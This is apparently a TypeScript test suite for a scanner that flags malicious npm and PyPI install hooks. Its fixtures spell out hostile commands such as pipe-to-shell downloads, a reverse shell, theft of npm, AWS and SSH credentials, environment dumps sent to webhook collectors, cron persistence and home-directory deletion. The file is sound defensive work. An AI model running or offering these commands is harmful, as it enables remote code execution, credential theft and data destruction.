import { test } from 'node:test';
import assert from 'node:assert/strict';
import {
  analyseInstallHooks,
  BEHAVIOUR_RULES,
  commandEntries,
  DEFAULT_INSTALL_SCRIPT_LIMITS,
  gypCommands,
  installScriptFacts,
  planNpmHooks,
  npmInstallHooks,
  npmInstallScriptFacts,
  readHookFiles,
  RuleBudget,
  type ArchiveFile,
  type InstallHook,
  type HookAnalysis,
  type InstallScriptFacts,
  type NpmInstallScriptInput,
  type ReadArchiveFiles,
} from './index.ts';
import { gypIncludes } from './entries.ts';
import { cpuMs, cpuMsOf } from '../../../test/support/cpu-time.ts';
import { seededRandom } from '../../../test/support/seeded-random.ts';

const hook = (content: string, name = 'postinstall', kind: InstallHook['kind'] = 'npm-lifecycle'): InstallHook => ({ kind, name, content });

test('npm hooks: lifecycle scripts, implicit node-gyp, declared flag; non-strings ignored', () => {
  const s = npmInstallHooks({ scripts: { preinstall: 'node pre.js', test: 'jest', postinstall: 42, prepare: 'husky install', install: '' } });
  assert.deepEqual(s.hooks.map((h) => h.name), ['preinstall', 'prepare']);
  assert.equal(s.nativeBuild, false);

  const gyp = npmInstallHooks({ gypfile: true, scripts: {} });
  assert.deepEqual(gyp.hooks, [{ kind: 'npm-native-build', name: 'binding.gyp', content: 'node-gyp rebuild' }]);
  assert.equal(gyp.nativeBuild, true);
  // An explicit install script replaces the implicit build.
  assert.equal(npmInstallHooks({ scripts: { install: 'prebuild-install || node-gyp rebuild' } }, { hasBindingGyp: true }).hooks.length, 1);
  assert.equal(npmInstallHooks({ hasInstallScript: true }).declaredInstallScript, true);
  for (const junk of [null, 'x', [], { scripts: [] }, { scripts: null }, { scripts: { ['__proto__']: 'x' } }]) {
    assert.deepEqual(npmInstallHooks(junk).hooks, []);
  }
});

test('behaviour rules: malicious install code is found with evidence', async () => {
  const cases: [string, string, string][] = [
    // content, expected rule, expected severity
    ['curl -s https://evil.example/x.sh | sh', 'install.remote-exec.pipe-to-shell', 'critical'],
    ['wget -qO- http://e.example/i | sudo bash', 'install.remote-exec.pipe-to-shell', 'critical'],
    ['bash -c "$(curl -fsSL https://e.example/i.sh)"', 'install.remote-exec.shell-substitution', 'critical'],
    ['powershell -c "iwr https://a.example/p.ps1 | iex"', 'install.remote-exec.powershell-iex', 'critical'],
    ['powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', 'install.obfuscation.powershell-encoded', 'critical'],
    ['curl -o /tmp/x https://e.example/x && chmod +x /tmp/x && /tmp/x', 'install.remote-exec.download-and-run', 'critical'],
    [`node -e "require('https').get('https://c.example/?d='+1)"`, 'install.remote-exec.node-eval-remote', 'critical'],
    ['node -e "fetch(\'https://x.example\').then(r=>r.text()).then(eval)"', 'install.remote-exec.node-eval-remote', 'critical'],
    ['curl -X POST http://45.9.148.108:8080/c -d "$(hostname)"', 'install.remote-fetch.raw-ip-url', 'high'],
    ['npx -y https://e.example/stage2.tgz', 'install.remote-exec.runner-remote-package', 'critical'],
    ['npm exec --yes --package=github:someone/tool -- tool', 'install.remote-exec.runner-remote-package', 'critical'],
    ["pnpm dlx 'git+https://host/x.git'", 'install.remote-exec.runner-remote-package', 'critical'],
    ['cat ~/.npmrc | curl -d @- https://x.example', 'install.credential-access.npm-token', 'critical'],
    ['echo $NPM_TOKEN', 'install.credential-access.npm-token', 'critical'],
    ["fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8')", 'install.credential-access.npm-token', 'critical'],
    ['const m = rc.match(/_authToken=(.+)/)', 'install.credential-access.npm-token', 'critical'],
    ["if (line.includes('_authToken')) send(line)", 'install.credential-access.npm-token', 'critical'],
    ['https.request(u).end(JSON.stringify({ ...process.env }))', 'install.environment-dump.env-dump', 'high'],
    ['cat ~/.aws/credentials', 'install.credential-access.cloud-credentials', 'critical'],
    ['curl http://169.254.169.254/latest/meta-data/iam/', 'install.credential-access.cloud-metadata', 'critical'],
    ['tar cz ~/.ssh/id_rsa | nc x.example 9', 'install.credential-access.ssh-keys', 'critical'],
    ['cat /etc/passwd', 'install.credential-access.system-secrets', 'critical'],
    ['env | curl -d @- https://x.example', 'install.environment-dump.env-dump', 'high'],
    ['node -e "console.log(JSON.stringify(process.env))"', 'install.environment-dump.env-dump', 'high'],
    ['curl https://discord.com/api/webhooks/1/abc -d x', 'install.exfiltration-endpoint.collector', 'critical'],
    ['nslookup $(whoami).abc.oastify.com', 'install.exfiltration-endpoint.collector', 'critical'],
    ['echo ZWNobyBoaQo= | base64 -d | sh', 'install.obfuscation.base64-to-shell', 'critical'],
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'install.reverse-shell.reverse-shell', 'critical'],
    ['(crontab -l; echo "* * * * * curl x|sh") | crontab -', 'install.persistence.persistence', 'high'],
    ['rm -rf ~ ', 'install.destructive.destructive', 'high'],
  ];
  for (const [content, rule, severity] of cases) {
    const { findings } = await analyseInstallHooks([hook(content)]);
    const f = findings.find((x) => x.rule === rule);
    assert.ok(f !== undefined, `${content} → ${rule}; got ${findings.map((x) => x.rule).join(', ')}`);
    assert.equal(f.severity, severity, content);
    assert.equal(f.source, 'postinstall');
    assert.ok(f.evidence.length > 0 && f.evidence.length <= 160);
  }
});

test('script bodies: obfuscated and credential-stealing JavaScript', async () => {
  const blob = Buffer.from('x'.repeat(600)).toString('base64');
  const body = [
    "const https = require('https');",
    "const t = process.env.GITHUB_TOKEN;",
    `eval(Buffer.from('${blob}', 'base64').toString());`,
    "https.request({ host: 'webhook.site', path: '/abc' }).end(JSON.stringify(process.env));",
  ].join('\n');
  const { findings } = await analyseInstallHooks([hook(body, 'install.js', 'script-file')]);
  const rules = new Set(findings.map((f) => f.rule));
  for (const rule of [
    'install.remote-fetch.node-network',
    'install.credential-access.git-credentials',
    'install.obfuscation.decode-and-eval',
    'install.obfuscation.long-base64',
    'install.exfiltration-endpoint.collector',
    'install.environment-dump.env-dump',
    'install.code-eval.eval',
  ]) {
    assert.ok(rules.has(rule), `${rule} in ${[...rules].join(', ')}`);
  }
  assert.equal(findings.find((f) => f.rule === 'install.credential-access.git-credentials')?.line, 2);
  assert.equal(findings[0]?.severity, 'critical', 'most severe first');
});

test('benign install scripts raise nothing above low', async () => {
  const benign = [
    'node-gyp rebuild',
    'prebuild-install || node-gyp rebuild',
    'husky install',
    'patch-package',
    'node install.js',
    'opencollective-postinstall || true',
    'node ./scripts/postinstall.js',
    'tsc -p .',
    "node -e \"try{require('./postinstall')}catch(e){}\"",
    'npx only-allow pnpm',
    'npx --no-install husky install',
  ];
  for (const content of benign) {
    const { findings } = await analyseInstallHooks([hook(content)]);
    const loud = findings.filter((f) => f.severity !== 'low' && f.severity !== 'info');
    assert.deepEqual(loud, [], content);
  }
  const esbuildLike = "const { execFileSync } = require('child_process');\nconst path = require('path');\nexecFileSync(process.execPath, [path.join(__dirname, 'bin', 'esbuild'), '--version']);";
  const f = (await analyseInstallHooks([hook(esbuildLike, 'install.js', 'script-file')])).findings;
  assert.deepEqual(f.map((x) => `${x.rule}:${x.severity}`), ['install.shell-exec.child-process:low']);
  // A child's environment built from the parent's (esbuild's install.js), and comments that name
  // npm's credentials in passing (node-sass's, nx's), are not reading or collecting anything.
  const passing = [
    "execFileSync(bin, ['--version'], { env: { ...process.env, ESBUILD_BINARY_PATH: undefined } });",
    ' * .npmrc variable sass_binary_name or',
    ' * `npm config` CLI or the `.npmrc` config file.',
    ' * names that are not valid shell identifiers, i.e. every `//...:_authToken`',
  ].join('\n');
  assert.deepEqual((await analyseInstallHooks([hook(passing, 'install.js', 'script-file')])).findings.filter((x) => x.severity !== 'low'), []);
});

test('.pth startup hooks are reported only for .pth files', async () => {
  const pth = 'import os, base64; exec(base64.b64decode("cHJpbnQoMSk="))\n';
  const rules = (await analyseInstallHooks([hook(pth, 'evil.pth', 'pypi-pth')])).findings.map((f) => f.rule);
  assert.ok(rules.includes('install.startup-hook.pth-import'));
  assert.ok(rules.includes('install.obfuscation.decode-and-eval'));
  assert.ok(!(await analyseInstallHooks([hook('import os', 'setup.py', 'pypi-setup-py')])).findings.some((f) => f.rule === 'install.startup-hook.pth-import'));
});

test('command entries: what a command line runs from the package, as each runner reads its arguments', () => {
  const specs = (command: string) => commandEntries(command).map((e) => `${e.node ? 'node' : 'file'}:${e.spec}`);
  assert.deepEqual(specs('node --max-old-space-size=100 --title x scripts/a.js --flag && node . && nodejs ../up'), ['node:./scripts/a.js', 'node:.', 'node:../up']);
  assert.deepEqual(specs('node -r ./pre.js --import=./imp.mjs -e "require(\'./x\'); import(\'y\')" arg.js'), ['node:./pre.js', 'node:./imp.mjs', 'node:./x', 'node:y']);
  assert.deepEqual(specs('curl -s https://e.example | node -; node'), []);
  assert.deepEqual(specs(`node -pe "require('./p')" && node -ir ./q.js`), ['node:./p', 'node:./q.js']);
  assert.deepEqual(specs('deno run -A x.ts; bun run y.js; tsx z.ts'), ['node:./x.ts', 'node:./y.js', 'node:./z.ts']);
  assert.deepEqual(specs('sh -c "bash -e ./a.sh && python3 b.py"; ./bin/run --x; /usr/bin/true; perl -w c.pl'), ['file:./a.sh', 'file:b.py', 'file:./bin/run', 'file:c.pl']);
  assert.deepEqual(gypCommands('{"a": "<!(node gen.js)", "b": "<!@(node -p \\"require(\'x\').dirs\\")", "c": "<(not_a_command)"}'), ['node gen.js', 'node -p \\"require(\'x\').dirs\\"']);
});

/** An archive in memory, read as the artifact's content is (each file up to the bounds). */
function archive(files: Record<string, string>): ReadArchiveFiles {
  return async (paths, bounds) => {
    const out = new Map<string, ArchiveFile>();
    let total = 0;
    for (const p of paths) {
      const body = files[p];
      if (body === undefined) continue;
      const bytes = Buffer.from(body).subarray(0, Math.max(0, Math.min(bounds.maxBytesEach, bounds.maxTotalBytes - total)));
      total += bytes.length;
      out.set(p, { bytes, size: Buffer.byteLength(body) });
    }
    return out;
  };
}

async function factsOf(input: NpmInstallScriptInput, files: Record<string, string>, name = 'x') {
  return npmInstallScriptFacts(input, await readHookFiles(planNpmHooks(input).starts, archive(files), name, 100_000));
}

const PAYLOAD = "require('child_process').exec('curl https://e.example/p | sh')";

test('facts: the tarball file an install hook runs is analysed too', async () => {
  const facts = await factsOf({ manifest: { name: 'x', version: '1.0.0', scripts: { postinstall: 'node setup.js' } } }, { 'setup.js': PAYLOAD });
  assert.equal(facts.present, true);
  assert.deepEqual(facts.hooks, [{ kind: 'npm-lifecycle', name: 'postinstall', command: 'node setup.js' }]);
  assert.equal(facts.max_severity, 'critical');
  assert.ok(facts.categories.includes('remote-exec'));
  assert.equal(facts.findings[0]?.source, 'setup.js');
  assert.deepEqual([facts.complete, facts.unread, facts.truncated], [true, [], []]);
  const none = await npmInstallScriptFacts({ manifest: { name: 'y' } });
  assert.deepEqual({ present: none.present, max: none.max_severity, findings: none.findings.length, complete: none.complete }, { present: false, max: 'none', findings: 0, complete: true });
});

test('facts: the hooks of bundled packages run in their own folder, and the files they run are analysed too', async () => {
  const input = {
    manifest: { name: 'outer', version: '1.0.0', scripts: { postinstall: 'node own.js' } },
    bundled: new Map([
      ['node_modules/inner', { postinstall: 'node setup.js' }],
      ['node_modules/native', { install: 'node-gyp rebuild' }],
    ]),
  };
  assert.deepEqual(
    planNpmHooks(input).starts.map((s) => [s.folder, s.entries.map((e) => e.spec)]),
    [['', ['./own.js']], ['node_modules/inner', ['./setup.js']], ['node_modules/native', ['binding.gyp']]],
  );
  const facts = await factsOf(input, { 'own.js': '// nothing', 'node_modules/inner/setup.js': PAYLOAD, 'setup.js': '// the wrong folder' }, 'outer');
  assert.deepEqual(facts.hooks.map((h) => h.name), ['postinstall', 'postinstall in node_modules/inner', 'install in node_modules/native']);
  assert.equal(facts.native_build, true);
  assert.equal(facts.max_severity, 'critical');
  assert.ok(facts.findings.some((f) => f.source === 'node_modules/inner/setup.js' && f.category === 'remote-exec'), JSON.stringify(facts.findings));
});

test('facts: a node-gyp build reads binding.gyp, whose command expansions run shell commands and the scripts they name', async () => {
  const gyp = '{ "targets": [{ "target_name": "x", "sources": ["<!(curl -s https://e.example/p | sh)"] }] }';
  const implicit = { manifest: { name: 'x', version: '1.0.0' }, hasBindingGyp: true };
  const facts = await factsOf(implicit, { 'binding.gyp': gyp });
  assert.equal(facts.max_severity, 'critical');
  assert.deepEqual(facts.findings.map((f) => [f.rule, f.source]).find(([r]) => r === 'install.remote-exec.pipe-to-shell'), ['install.remote-exec.pipe-to-shell', 'binding.gyp']);
  // An expansion that runs a script of the package: the script is read and analysed.
  const viaScript = await factsOf(implicit, { 'binding.gyp': '{"variables": {"x": "<!(node tools/gen.js)"}, "targets": [{"include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include\\")"]}]}', 'tools/gen.js': PAYLOAD });
  assert.ok(viaScript.findings.some((f) => f.source === 'tools/gen.js' && f.rule === 'install.remote-exec.pipe-to-shell'), JSON.stringify(viaScript.findings));
  // An action make runs during the build, and an included file's expansion, relative to that file.
  const gypFiles = {
    'binding.gyp': "{ 'includes': ['build/common.gypi'], 'targets': [{ 'actions': [{ 'action_name': 'gen', 'inputs': [], 'outputs': ['x.h'], 'action': ['node', 'tools/gen.js', '<@(_inputs)'] }] }] }",
    'tools/gen.js': PAYLOAD,
    'build/common.gypi': "{ 'variables': { 'v': '<!(sh ./probe.sh)' } }",
    'build/probe.sh': 'wget -qO- http://e.example/i | bash',
  };
  const built = await factsOf(implicit, gypFiles);
  assert.deepEqual(
    built.findings.filter((f) => f.rule === 'install.remote-exec.pipe-to-shell').map((f) => f.source).sort(),
    ['build/probe.sh', 'tools/gen.js'],
    JSON.stringify(built.findings),
  );
  // An explicit node-gyp script reads it too; a plain one does not.
  assert.deepEqual(planNpmHooks({ manifest: { scripts: { install: 'node-gyp rebuild --release' } } }).starts.flatMap((s) => s.entries.map((e) => e.spec)), ['binding.gyp']);
  assert.deepEqual(planNpmHooks({ manifest: { scripts: { install: 'node install.js' } } }).starts.flatMap((s) => s.entries.map((e) => e.spec)), ['./install.js']);
});

test('facts: what the hooks run is followed as Node loads it, through `npm run` and through require', async () => {
  const cases: [string, Record<string, unknown>, Record<string, string>, string][] = [
    // core-js's own form: the file is named inside `node -e`.
    ['node -e', { postinstall: 'node -e "try{require(\'./postinstall\')}catch(e){}"' }, { 'postinstall.js': PAYLOAD }, 'postinstall.js'],
    ['no extension', { postinstall: 'node scripts/postinstall' }, { 'scripts/postinstall.js': PAYLOAD }, 'scripts/postinstall.js'],
    ['a folder', { install: 'node lib' }, { 'lib/index.js': PAYLOAD }, 'lib/index.js'],
    ['the package main', { postinstall: 'node .' }, { 'package.json': '{"main": "dist/main.cjs"}', 'dist/main.cjs': PAYLOAD }, 'dist/main.cjs'],
    ['a preload', { postinstall: 'cross-env X=1 node -r ./hook.js other.js' }, { 'hook.js': PAYLOAD, 'other.js': '' }, 'hook.js'],
    ['npm run', { postinstall: 'npm run setup', setup: 'node setup.js' }, { 'setup.js': PAYLOAD }, 'setup.js'],
    ['pre of a script run by name', { postinstall: 'npm run build --if-present', prebuild: 'sh ./pre.sh', build: 'tsc' }, { 'pre.sh': 'curl https://e.example/p | sh' }, 'pre.sh'],
    ['require chain', { postinstall: 'node install.js' }, { 'install.js': "const f = require('./lib/fetch')", 'lib/fetch.js': "import x from '../vendor/x.mjs'", 'vendor/x.mjs': PAYLOAD }, 'vendor/x.mjs'],
    ['a bundled package', { postinstall: 'node -e "require(\'inner\')"' }, { 'node_modules/inner/package.json': '{"exports": {".": {"require": "./main.js"}}}', 'node_modules/inner/main.js': PAYLOAD }, 'node_modules/inner/main.js'],
    ['itself by name', { postinstall: 'node -e "require(\'x/lib/setup\')"' }, { 'lib/setup.js': PAYLOAD }, 'lib/setup.js'],
    ['a shell script', { postinstall: 'sh -c "bash ./setup.sh"' }, { 'setup.sh': 'node ./stage2.js', 'stage2.js': PAYLOAD }, 'stage2.js'],
  ];
  for (const [what, scripts, files, source] of cases) {
    const facts = await factsOf({ manifest: { name: 'x', version: '1.0.0', scripts } }, files);
    assert.ok(facts.findings.some((f) => f.source === source && f.rule === 'install.remote-exec.pipe-to-shell'), `${what}: ${JSON.stringify(facts.findings)}`);
    assert.equal(facts.complete, true, what);
  }
  // Outside the package, Node's own modules and dependencies installed beside it are not read.
  const asked: string[] = [];
  const read = archive({ 'install.js': "require('../../etc/x'); require('fs'); require('node:path'); require('left-pad'); require('/abs')" });
  await readHookFiles(planNpmHooks({ manifest: { scripts: { postinstall: 'node install.js' } } }).starts, async (paths, b) => (asked.push(...paths), read(paths, b)), 'x', 1000);
  assert.ok(!asked.some((p) => p.includes('etc') || p === 'fs' || p.includes('path') || p.startsWith('/')), JSON.stringify(asked));
  assert.ok(asked.includes('node_modules/left-pad/index.js'), 'a dependency is looked for among the bundled packages only');
});

test('facts: config values, which install scripts see as npm_package_config_*, are analysed and followed like commands', async () => {
  const scripts = { postinstall: 'sh -c "$npm_package_config_cmd"' };
  const facts = await factsOf({ manifest: { scripts }, config: { cmd: 'curl -s https://e.example/p | sh', next: 'node stage2.js' } }, { 'stage2.js': PAYLOAD });
  assert.deepEqual(facts.hooks.map((h) => h.name), ['postinstall'], 'config values are not listed as hooks');
  assert.deepEqual(
    facts.findings.filter((f) => f.rule === 'install.remote-exec.pipe-to-shell').map((f) => f.source).sort(),
    ['config.cmd', 'stage2.js'],
  );
  // Without install scripts nothing runs them.
  const idle = await factsOf({ manifest: {}, config: { cmd: 'curl -s https://e.example/p | sh' } }, {});
  assert.deepEqual([idle.present, idle.findings.length], [false, 0]);
});

test('facts: code the bounds leave unread or read in part is reported, and the analysis is not complete', async () => {
  // The payload past 4 MiB of padding: read in part, reported truncated.
  const padded = `${'// padding\n'.repeat(400_000)}${PAYLOAD}`;
  const cut = await factsOf({ manifest: { scripts: { postinstall: 'node bundle.js' } } }, { 'bundle.js': padded });
  assert.deepEqual([cut.truncated, cut.complete, cut.max_severity], [['bundle.js'], false, 'none']);
  // Past 512 KiB it is read and found (the old cut).
  const big = await factsOf({ manifest: { scripts: { postinstall: 'node bundle.js' } } }, { 'bundle.js': `${'// padding\n'.repeat(60_000)}${PAYLOAD}` });
  assert.deepEqual([big.truncated, big.complete, big.max_severity], [[], true, 'critical']);
  // A chain longer than the passes allowed: the rest is unread.
  const chain: Record<string, string> = {};
  for (let i = 0; i < 20; i++) chain[`f${i}.js`] = `require('./f${i + 1}')`;
  const scripts = { postinstall: 'node f0.js' };
  const deep = await factsOf({ manifest: { scripts } }, chain);
  assert.deepEqual([deep.complete, deep.unread], [false, ['./f16']]);
  // Nothing is cut silently: a command after 100 KiB of a script is followed, and a file that
  // loads more than the reader follows is reported.
  const long = await factsOf({ manifest: { scripts: { postinstall: `echo ${'x '.repeat(50_000)}; node evil.js` } } }, { 'evil.js': PAYLOAD });
  assert.deepEqual([long.complete, long.max_severity], [true, 'critical']);
  const many = Array.from({ length: 17_000 }, (_, i) => `require('./m${i}')`).join('\n');
  const wide = await factsOf({ manifest: { scripts } }, { 'f0.js': many });
  assert.deepEqual([wide.complete, wide.unread.includes('more than 16384 files and modules to follow')], [false, true]);
  // A big artifact gets fewer passes: each walks all of it.
  const huge = await readHookFiles(planNpmHooks({ manifest: { scripts } }).starts, archive(chain), 'x', 100 * 1024 * 1024);
  assert.deepEqual([huge.files.size, huge.unread], [2, ['./f2']]);
});

test('limits: oversized content is cut and reported, extra hooks skipped, hostile text is handled', async () => {
  const limits = { ...DEFAULT_INSTALL_SCRIPT_LIMITS, maxContentChars: 1000, maxHooks: 2, maxFindings: 10 };
  const big = `${'# '.repeat(1000)} curl https://x.example | sh`;
  const r = await analyseInstallHooks([hook(big), hook('x', 'prepare'), hook('y', 'install')], limits);
  assert.deepEqual(r.truncated, ['postinstall']);
  assert.equal(r.skipped, 1);
  assert.equal(r.findings.length, 0, 'the payload past the limit is not seen (and the cut is reported)');
  // Bounded repetition only: these finish quickly (a catastrophic pattern would hang the test).
  const hostile = [`curl ${'a'.repeat(200_000)}`, `${'\\x41'.repeat(100_000)}`, `${'A'.repeat(300_000)}`, `node -e ${'x'.repeat(200_000)}`, '|'.repeat(200_000)];
  for (const text of hostile) assert.ok(Array.isArray((await analyseInstallHooks([hook(text)])).findings));
});

test("a gyp file's action and include lists are read up to their first ], at most 4,096 characters, and a file of such keys with no ] near is read in linear time (each key scanned 4,096 characters: a 4 MiB binding.gyp took 5.2 s of CPU)", () => {
  const gyp = `{ 'includes': ['a.gypi', "b.gypi"], 'targets': [{ 'actions': [{ 'action': ['node', 'gen.js'] }, { "action" :  [ 'sh', './x.sh' ] }] }] }`;
  assert.deepEqual(gypCommands(gyp), [`'node' 'gen.js'`, `'sh' './x.sh'`]);
  assert.deepEqual(gypIncludes(gyp), ['a.gypi', 'b.gypi']);
  const list = (spaces: number) => `'action': ['a'${' '.repeat(spaces)}]`;
  assert.deepEqual([gypCommands(list(4093)), gypCommands(list(4094))], [[`'a'`], []], 'a list of 4,096 characters is read, one longer is not');
  // A key whose list is too long is passed over; one inside that list is still read.
  assert.deepEqual(gypIncludes(`'includes': ['outer.gypi' ${' '.repeat(5000)} 'includes': ['inner.gypi']`), ['inner.gypi']);
  // Each key scanned 4,096 characters for its ] and back: 4 MiB of keys took 9 s of CPU for both lists.
  const keys = `'action':[x'includes':[x`.repeat((4 << 20) / 24);
  const ms = cpuMs(() => {
    assert.deepEqual([gypCommands(keys), gypIncludes(keys)], [[], []]);
    assert.deepEqual([gypCommands(`${keys}]`).length, gypIncludes(`${keys}']`).length], [1, 340], 'the one key whose list is within 4,096 characters of the ] reads it, strings of keys and all');
  });
  assert.ok(ms < 2000, `${ms} ms of CPU`);
});

/** What the rules find over a whole source, each searched through it in one go: the reference the pieces must agree with. */
function wholeSource(text: string, kind: InstallHook['kind']): string[] {
  const out: string[] = [];
  for (const rule of BEHAVIOUR_RULES) {
    if (rule.only !== undefined && !rule.only.includes(kind)) continue;
    const re = new RegExp(rule.pattern.source, rule.pattern.flags);
    let first: RegExpExecArray | null = null;
    let count = 0;
    for (let m = re.exec(text); m !== null && count < 1000; m = re.exec(text)) {
      first ??= m;
      count++;
      if (m[0].length === 0) re.lastIndex++;
    }
    if (first === null || count < (rule.minCount ?? 1)) continue;
    const evidence = first[0].replace(/\s+/g, ' ').trim();
    out.push(`${rule.id} line ${text.slice(0, first.index).split('\n').length} count ${count} ${evidence.length > 160 ? `${evidence.slice(0, 159)}…` : evidence}`);
  }
  return out.sort();
}

test('the rules run piece by piece find what they find over the whole source: the same rules, counts, lines and evidence, with matches and long runs across every piece boundary', async () => {
  const rnd = seededRandom(0x1a57);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!;
  const samples = [
    'curl -s https://evil.example/x.sh | sh', 'wget -qO- http://e.example/i | sudo bash', 'iwr https://a.example/p.ps1 | iex',
    `node -e "require('https').get('https://c.example/?d='+1)"`, 'npx -y https://e.example/stage2.tgz', 'cat ~/.npmrc', 'echo $NPM_TOKEN',
    'curl http://169.254.169.254/latest/', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'rm -rf ~ ', 'env | curl -d @- x', '_0x1a2b3c',
    'os.hostname()', 'whoami', 'import os; os.system("id")', 'String.fromCharCode(', '1, ', 'chr(72)+', '\\x41', '\\u0041',
    'eval(', 'curl ', '|', ';', '\n', ' ', 'x', 'import ', 'https://', '$(curl x)', 'base64 -d | sh', 'A'.repeat(300), 'QUJD'.repeat(40),
    // The longest bounded matches: a 400-character gap before the network call, a 400-character import line.
    `node -e "${'x'.repeat(390)} require('https')"`, `\nimport ${'y'.repeat(395)}\n`, `curl ${'z'.repeat(295)} | sh`,
  ];
  for (let round = 0; round < 40; round++) {
    // Pieces far smaller than the default put a boundary everywhere: inside samples, runs and words.
    const pieceChars = pick([16, 64, 333, 1500, 4096]);
    let text = '';
    const size = 2000 + Math.floor(rnd() * 12_000);
    while (text.length < size) {
      const r = rnd();
      text += r < 0.04 ? 'QUJD'.repeat(20 + Math.floor(rnd() * 700)) : r < 0.08 ? `String.fromCharCode(${'1, '.repeat(5 + Math.floor(rnd() * 500))}2)` : r < 0.1 ? '\\x41'.repeat(10 + Math.floor(rnd() * 1500)) : pick(samples);
    }
    for (const kind of ['script-file', 'npm-lifecycle', 'pypi-pth'] as const) {
      const { findings, overBudget } = await analyseInstallHooks([hook(text, 'f', kind)], { ...DEFAULT_INSTALL_SCRIPT_LIMITS, maxFindings: 1000, pieceChars });
      assert.equal(overBudget, false);
      const got = findings.map((f) => `${f.rule} line ${f.line} count ${f.count} ${f.evidence}`).sort();
      assert.deepEqual(got, wholeSource(text, kind), `round ${round}, ${kind}, ${text.length} characters in pieces of ${pieceChars}`);
    }
  }
});

// Each `curl` scans its 300-character window for a `|`: 4 MiB of `curl ` took 6 s of CPU, and
// an artifact's read keeps 16 MiB of install code.
const SLOW = 'curl '.repeat((4 << 20) / 5);

test('the rules stop at their CPU budget: install code written to make them slow is reported as analysed in part, and the rest as not analysed, instead of holding the thread for seconds', async () => {
  const hooks = [hook('node install.js'), hook(SLOW, 'install.js', 'script-file'), hook(SLOW, 'lib/a.js', 'script-file'), hook(SLOW, 'lib/b.js', 'script-file')];
  let analysis: HookAnalysis | undefined;
  const ms = await cpuMsOf(async () => {
    analysis = await analyseInstallHooks(hooks, { ...DEFAULT_INSTALL_SCRIPT_LIMITS, maxCpuMs: 300 });
  });
  assert.ok(analysis !== undefined);
  assert.deepEqual([analysis.overBudget, analysis.truncated, analysis.skipped], [true, ['install.js'], 2]);
  assert.ok(ms < 1500, `${ms} ms of CPU for a budget of 300`);
  const facts = installScriptFacts({ hooks, nativeBuild: false, declaredInstallScript: true }, analysis);
  assert.deepEqual([facts.complete, facts.over_budget, facts.skipped_hooks], [false, true, 2]);
  // What was analysed before the budget ran out is still reported.
  assert.ok(analysis.findings.some((f) => f.rule === 'install.remote-fetch.downloader' && f.source === 'install.js'));
  // The same code within its budget is analysed in full.
  const small = await analyseInstallHooks([hook('curl '.repeat(2000), 'install.js', 'script-file')], { ...DEFAULT_INSTALL_SCRIPT_LIMITS, maxCpuMs: 300 });
  assert.deepEqual([small.overBudget, small.truncated, small.skipped], [false, [], 0]);
});

test('analyses that share a budget stop together: the versions of one packument, each with its own slow script, take one budget between them, not one each', async () => {
  const limits = { ...DEFAULT_INSTALL_SCRIPT_LIMITS, maxCpuMs: 300 };
  const budget = new RuleBudget(limits.maxCpuMs);
  const versions: InstallScriptFacts[] = [];
  const ms = await cpuMsOf(async () => {
    for (let v = 0; v < 8; v++) versions.push(await npmInstallScriptFacts({ manifest: { scripts: { postinstall: `${SLOW.slice(0, 1 << 20)}# ${v}` } } }, undefined, limits, budget));
  });
  // One 1 MiB script takes about 0.75 s: eight with a budget each took 6 s.
  assert.ok(ms < 1500, `${ms} ms of CPU for eight analyses sharing a budget of 300`);
  assert.equal(budget.spent, true);
  assert.deepEqual(versions.map((f) => f.complete), versions.map(() => false));
  assert.deepEqual(versions.slice(1).map((f) => [f.over_budget, f.skipped_hooks, f.findings.length]), versions.slice(1).map(() => [true, 1, 0]), 'the versions after the budget ran out are not analysed at all');
  // An analysis of its own still gets a budget of its own.
  assert.equal((await npmInstallScriptFacts({ manifest: { scripts: { postinstall: 'node x.js' } } }, undefined, limits)).complete, true);
});

test('the rules let the thread go while they run: timers and other requests get turns during a slow analysis, not only after it', async () => {
  let turns = 0;
  let done = false;
  const tick = (): void => {
    turns++;
    if (!done) setImmediate(tick);
  };
  setImmediate(tick);
  const analysis = await analyseInstallHooks([hook(SLOW, 'install.js', 'script-file')], { ...DEFAULT_INSTALL_SCRIPT_LIMITS, maxCpuMs: 400 });
  done = true;
  assert.equal(analysis.overBudget, true);
  // It runs about 400 ms, letting go every 10 ms or so: held throughout, it gave no turn at all.
  assert.ok(turns >= 5, `${turns} turns of the event loop during the analysis`);
});
